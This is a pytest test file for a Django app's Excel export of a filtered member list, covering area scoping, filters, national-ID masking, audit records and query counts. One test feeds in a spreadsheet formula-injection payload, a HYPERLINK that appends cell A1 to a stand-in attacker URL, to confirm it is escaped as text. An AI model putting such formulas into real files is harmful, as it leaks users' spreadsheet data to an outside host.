"""Export of the filtered member list: the list's scoping and filters, NIK masking, formula
escaping, formats, the audit record, and a constant number of queries."""

import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from garda.accounts.roles import Role
from garda.audit.models import Action, AuditEvent
from garda.core.nik import mask_identifier
from garda.core.testing import BANGKA, BELINYU, LUMUT, client_for, make_user
from garda.pilar import exporter, importer
from garda.pilar.models import ImportBatch, Status

from .factories import SUNGAILIAT_DESA, add_training, register_psm

EXPORT = reverse("pilar:export")


def exported(client: Client, **params: str) -> list[dict[str, Any]]:
    """The exported rows as {header: cell}."""
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Cache-Control"] == "no-store"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


@pytest.fixture
def admin(bangka):
    return make_user(Role.ADMIN_DINAS, BANGKA)


def test_formulas_come_out_as_text(admin):
    register_psm(
        code=LUMUT,
        actor=admin,
        name='=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
        address="+62 Jl. Raya",
        occupation="@SUM(A1:A9)",
        dusun="-1+1",
        birth_place="\tTab",
    )
    [row] = exported(client_for(admin))
    assert row["nama"].value == '\'=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
    assert row["alamat"].value == "'+62 Jl. Raya"
    assert row["pekerjaan"].value == "'@SUM(A1:A9)"
    assert row["dusun"].value == "'-1+1"
    assert row["tempat_lahir"].value == "'\tTab"
    assert all(cell.data_type != "f" for cell in row.values())


def test_nik_is_masked_without_the_reveal_permission_and_every_export_is_audited(admin):
    member = register_psm(code=LUMUT, actor=admin)
    coordinator = make_user(Role.KOORDINATOR, BELINYU)

    [masked] = exported(client_for(coordinator))
    [full] = exported(client_for(admin))

    assert masked["nik"].value == mask_identifier(member.nik)
    assert member.nik not in str([c.value for c in masked.values()])
    assert full["nik"].value == member.nik
    events = AuditEvent.objects.filter(action=Action.EXPORT).order_by("at", "id")
    assert [(e.actor_id, e.changes["rows"][1], e.changes["nik_revealed"][1]) for e in events] == [
        (coordinator.pk, 1, 0),
        (admin.pk, 1, 1),
    ]
    assert events[0].wilayah_code == BELINYU


def test_export_holds_only_the_users_area(admin):
    register_psm(code=LUMUT, actor=admin, name="Di Lumut")
    register_psm(code=SUNGAILIAT_DESA, actor=admin, name="Di Sungailiat")
    coordinator = client_for(make_user(Role.KOORDINATOR, BELINYU))

    assert [r["nama"].value for r in exported(coordinator)] == ["Di Lumut"]
    assert {r["nama"].value for r in exported(client_for(admin))} == {"Di Lumut", "Di Sungailiat"}


def test_the_list_filters_apply(admin):
    trained = register_psm(code=LUMUT, actor=admin, name="Aktif Terlatih")
    add_training(trained, actor=admin)
    register_psm(code=LUMUT, actor=admin, name="Calon", status=Status.CALON)
    register_psm(code=SUNGAILIAT_DESA, actor=admin, name="Sungailiat")
    client = client_for(admin)

    def names(**params: str) -> set[str]:
        return {r["nama"].value for r in exported(client, **params)}

    assert names(status="aktif") == {"Aktif Terlatih", "Sungailiat"}
    assert names(wilayah=BELINYU) == {"Aktif Terlatih", "Calon"}
    assert names(trained="yes") == {"Aktif Terlatih"}
    assert names(trained="no", wilayah=LUMUT) == {"Calon"}
    assert names(jenis="tksk") == set()
    assert names(q="calon") == {"Calon"}
    assert names(q=trained.nik) == {"Aktif Terlatih"}


def test_a_filter_outside_the_area_exports_nothing(bangka):
    client = client_for(make_user(Role.KOORDINATOR, BELINYU))
    response = client.get(EXPORT, {"wilayah": "19.01.01"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("pilar:list"))
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_columns_dates_and_counts_are_formatted(admin):
    member = register_psm(
        code=LUMUT, actor=admin, birth_date=datetime.date(1990, 7, 5), joined_on=None
    )
    add_training(member, actor=admin)
    [row] = exported(client_for(admin))
    assert list(row) == [*importer.COLUMN_NAMES, "nama_wilayah", "kecamatan", "jumlah_pelatihan"]
    assert row["tanggal_lahir"].value == datetime.datetime(1990, 7, 5)  # noqa: DTZ001 - Excel
    assert row["tanggal_lahir"].number_format == "DD/MM/YYYY"
    assert row["tanggal_bergabung"].value is None
    assert row["kode_wilayah"].value == LUMUT
    assert row["nama_wilayah"].value == "Lumut"
    assert row["kecamatan"].value == "Belinyu"
    assert row["jumlah_pelatihan"].value == 1
    assert row["status"].value == "aktif"


def test_an_exported_file_imports_as_unchanged(admin):
    for name in ("Satu", "Dua", "Tiga"):
        register_psm(code=LUMUT, actor=admin, name=name, phone="+6281234567")
    client = client_for(admin)
    content = client.get(EXPORT).content

    response = client.post(
        reverse("pilar:import"), {"file": SimpleUploadedFile("ekspor.xlsx", content)}
    )

    batch = ImportBatch.objects.get()
    assert response["Location"] == batch.get_absolute_url()
    assert (batch.new_count, batch.updated_count, batch.unchanged_count, batch.bad_count) == (
        0,
        0,
        3,
        0,
    )


def test_the_number_of_queries_does_not_grow_with_the_rows(admin):
    client = client_for(admin)
    register_psm(code=LUMUT, actor=admin)
    client.get(EXPORT)  # warm the session and caches
    with CaptureQueriesContext(connection) as few:
        client.get(EXPORT)
    for _ in range(5):
        add_training(register_psm(code=SUNGAILIAT_DESA, actor=admin), actor=admin)
    with CaptureQueriesContext(connection) as many:
        assert len(exported(client)) == 6
    assert len(many) == len(few)


@pytest.mark.parametrize("role,code", [(Role.VIEWER, BANGKA)])
def test_roles_without_view_people_get_403(bangka, role, code):
    assert client_for(make_user(role, code)).get(EXPORT).status_code == 403


def test_anonymous_export_goes_to_login(bangka):
    response = Client().get(EXPORT)
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_export_filename_carries_the_date(admin):
    response = client_for(admin).get(EXPORT)
    assert exporter.export_filename() in response["Content-Disposition"]
